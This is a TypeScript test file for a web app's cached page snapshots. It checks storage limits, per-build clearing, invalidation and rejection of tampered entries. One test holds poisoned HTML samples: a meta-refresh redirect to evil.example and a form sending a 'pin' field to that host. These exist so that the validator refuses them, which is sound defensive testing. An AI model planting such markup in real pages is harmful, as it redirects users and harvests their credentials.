import { beforeEach, describe, expect, it, vi } from 'vitest';
import {
  clearOtherBuilds,
  clearSnapshots,
  invalidateSnapshots,
  readSnapshot,
  SNAPSHOT_MAX_CHARS,
  SNAPSHOT_LIMIT,
  writeSnapshot,
  type Snapshot,
} from './snapshots';

/**
 * Cache Storage as the specification has it, for what the module uses: a put replaces an
 * address's entry and lists it last; keys come oldest written first.
 */
class FakeCache {
  readonly entries = new Map<string, string>();
  async put(key: string, response: Response) {
    this.entries.delete(key);
    this.entries.set(key, await response.text());
  }
  match(key: string) {
    const body = this.entries.get(key);
    return Promise.resolve(body === undefined ? undefined : new Response(body));
  }
  keys() {
    return Promise.resolve([...this.entries.keys()].map((url) => ({ url })));
  }
  delete(key: string | { url: string }) {
    return Promise.resolve(this.entries.delete(typeof key === 'string' ? key : key.url));
  }
}
const stores = new Map<string, FakeCache>();
vi.stubGlobal('caches', {
  open: (name: string) => Promise.resolve(stores.get(name) ?? stores.set(name, new FakeCache()).get(name)),
  keys: () => Promise.resolve([...stores.keys()]),
  match: (key: string, options: { cacheName: string }) =>
    stores.get(options.cacheName)?.match(key) ?? Promise.resolve(undefined),
  delete: (name: string) => Promise.resolve(stores.delete(name)),
});

const ORIGIN = 'https://city.example';
const shot = (path: string): Snapshot => ({
  path,
  html: `<main><h1>${path}</h1></main>`,
  title: path,
  lang: 'en',
  renderKey: 'k',
  takenAt: 1,
  code: '/assets/index-abc.js',
});
const kept = async (build: string) =>
  (await (await caches.open(`citylink-snapshots-${build}`)).keys()).map((r) => new URL(r.url).pathname);

beforeEach(() => stores.clear());

describe('snapshots of screens', () => {
  it('are read back for their address and build only', async () => {
    await writeSnapshot('1', ORIGIN, shot('/news/a'));
    expect(await readSnapshot('1', ORIGIN, '/news/a')).toEqual(shot('/news/a'));
    expect(await readSnapshot('1', ORIGIN, '/news/b')).toBeUndefined();
    expect(await readSnapshot('2', ORIGIN, '/news/a')).toBeUndefined();
  });

  it('keep the newest addresses up to the limit, and the tabs whatever their age', async () => {
    await writeSnapshot('1', ORIGIN, shot('/'));
    await writeSnapshot('1', ORIGIN, shot('/events'));
    for (let i = 0; i < SNAPSHOT_LIMIT + 3; i++) await writeSnapshot('1', ORIGIN, shot(`/news/${i}`));
    // Written again: the newest, so it stays.
    await writeSnapshot('1', ORIGIN, shot('/news/0'));
    const paths = await kept('1');
    expect(paths).toContain('/');
    expect(paths).toContain('/events');
    expect(paths).toContain('/news/0');
    expect(paths).not.toContain('/news/1');
    expect(paths.filter((p) => p.startsWith('/news/'))).toHaveLength(SNAPSHOT_LIMIT);
  });

  it('are dropped per build, or all at once', async () => {
    await writeSnapshot('1', ORIGIN, shot('/'));
    await writeSnapshot('2', ORIGIN, shot('/'));
    await (await caches.open('citylink-images')).put('x', new Response(''));
    await clearOtherBuilds('2');
    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
    expect(await readSnapshot('2', ORIGIN, '/')).toBeDefined();
    await writeSnapshot('1', ORIGIN, shot('/'));
    await clearSnapshots('1');
    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
    expect(await readSnapshot('2', ORIGIN, '/')).toBeDefined();
    await clearSnapshots();
    expect([...stores.keys()]).toEqual(['citylink-images']);
  });

  it('are dropped on invalidation, and one taken before it and written after it is not read', async () => {
    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 100 });
    await invalidateSnapshots(ORIGIN, 200);
    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
    // A page that had not yet heard of the retraction writes the screen it read before it.
    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 150 });
    expect(await readSnapshot('1', ORIGIN, '/')).toBeUndefined();
    await writeSnapshot('1', ORIGIN, { ...shot('/'), takenAt: 250 });
    expect(await readSnapshot('1', ORIGIN, '/')).toBeDefined();
  });

  it('read as nothing when poisoned: markup the app does not write, or too large', async () => {
    const cache = await caches.open('citylink-snapshots-1');
    const poison = async (html: string) => {
      await cache.put(`${ORIGIN}/contacts`, new Response(JSON.stringify({ ...shot('/contacts'), html })));
      return readSnapshot('1', ORIGIN, '/contacts');
    };
    expect(await poison('<main><h1>Contacts</h1></main>')).toBeDefined();
    expect(
      await poison(
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"><main><h1>Contacts</h1></main>',
      ),
    ).toBeUndefined();
    expect(
      await poison(
        '<main><h1>Contacts</h1><form action="https://evil.example/"><input name="pin"></form></main>',
      ),
    ).toBeUndefined();
    expect(
      await poison(`<main><h1>Contacts</h1><p>${'x'.repeat(SNAPSHOT_MAX_CHARS)}</p></main>`),
    ).toBeUndefined();
    // 2 MB in the other fields: not even parsed.
    await cache.put(
      `${ORIGIN}/contacts`,
      new Response(JSON.stringify({ ...shot('/contacts'), title: 'x'.repeat(2_000_000) })),
    );
    expect(await readSnapshot('1', ORIGIN, '/contacts')).toBeUndefined();
    // Without the code that wrote it.
    await cache.put(
      `${ORIGIN}/contacts`,
      new Response(JSON.stringify({ ...shot('/contacts'), code: undefined })),
    );
    expect(await readSnapshot('1', ORIGIN, '/contacts')).toBeUndefined();
  });

  it('read as nothing when the entry is not a snapshot of the address', async () => {
    const cache = await caches.open('citylink-snapshots-1');
    await cache.put(`${ORIGIN}/news/a`, new Response(JSON.stringify({ ...shot('/news/b') })));
    expect(await readSnapshot('1', ORIGIN, '/news/a')).toBeUndefined();
    await cache.put(`${ORIGIN}/news/a`, new Response('not json'));
    expect(await readSnapshot('1', ORIGIN, '/news/a')).toBeUndefined();
  });
});
